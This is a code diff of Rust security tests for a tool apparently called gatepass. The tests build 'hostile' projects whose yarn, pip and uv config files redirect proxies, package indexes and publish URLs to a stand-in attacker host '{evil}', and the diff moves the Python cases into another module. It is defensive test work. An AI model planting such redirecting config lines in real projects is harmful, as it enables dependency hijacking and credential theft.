@@ -1,10 +1,10 @@
-//! The hostile projects, by ecosystem.
+//! The hostile projects, by ecosystem; those of Python are in [`super::python`].
 
 use gatepass::token::Permission;
 
 use super::{PROJECT, Project, attack};
 
-fn attack_all(projects: &[Project], expected: usize) {
+pub(super) fn attack_all(projects: &[Project], expected: usize) {
     let tried: usize = projects.iter().map(attack).sum();
     println!("{tried} attacks by {} projects", projects.len());
     assert_eq!(tried, expected);
@@ -89,61 +89,6 @@ fn javascript() {
             Project { hostile: &[(".yarnrc.yml", "httpProxy: \"http://{evil}\"\n")], applied_is_told: true, ..berry },
         ],
         92,
-    );
-}
-
-const PYPROJECT: &str =
-    "[project]\nname = \"ours\"\nversion = \"0.1.0\"\nrequires-python = \">=3.9\"\ndependencies = [\"tiny\"]\n";
-
-/// A wheel to publish.
-const WHEEL: &str = r#"mkdir -p dist; python3 -c '
-import zipfile
-with zipfile.ZipFile("dist/tiny-1.2.3-py3-none-any.whl", "w") as wheel:
-    wheel.writestr("tiny.py", "")
-    wheel.writestr("tiny-1.2.3.dist-info/METADATA", "Metadata-Version: 2.1\nName: tiny\nVersion: 1.2.3\n")
-    wheel.writestr("tiny-1.2.3.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
-    wheel.writestr("tiny-1.2.3.dist-info/RECORD", "")'
-"#;
-
-#[test]
-fn python() {
-    let write = Permission::ReadWrite;
-    let pip = Project {
-        manager: "pip",
-        program: "pip",
-        script: "pip download --no-deps -r requirements.txt || pip download --no-deps -r ../requirements.txt",
-        ..PROJECT
-    };
-    let uv = Project { manager: "uv", program: "uv", script: "uv lock --no-cache", ..PROJECT };
-    let uv_publish = Project { permission: write, script: format!("{WHEEL}uv publish dist/*.whl").leak(), ..uv };
-    let index = |table: &str| -> &'static [(&'static str, &'static str)] {
-        let text = format!("{PYPROJECT}{table}").leak();
-        vec![("pyproject.toml", &*text)].leak()
-    };
-    attack_all(
-        &[
-            Project { hostile: &[("requirements.txt", "--index-url http://{evil}/simple\ntiny\n")], ..pip },
-            Project { hostile: &[("requirements.txt", "--extra-index-url http://{evil}/simple\ntiny\n")], ..pip },
-            Project {
-                hostile: index(
-                    "[[tool.uv.index]]\nname = \"gatepass\"\nurl = \"http://{evil}/simple\"\ndefault = true\n",
-                ),
-                ..uv
-            },
-            Project {
-                hostile: index(
-                    "[[tool.uv.index]]\nname = \"gatepass\"\nurl = \"http://{evil}/simple\"\nauthenticate = \"always\"\n",
-                ),
-                ..uv
-            },
-            Project {
-                files: &[("pyproject.toml", PYPROJECT)],
-                hostile: &[("uv.toml", "[[index]]\nname = \"gatepass\"\nurl = \"http://{evil}/simple\"\n")],
-                ..uv
-            },
-            Project { hostile: index("[tool.uv]\npublish-url = \"http://{evil}/\"\n"), ..uv_publish },
-        ],
-        24,
     );
 }
 
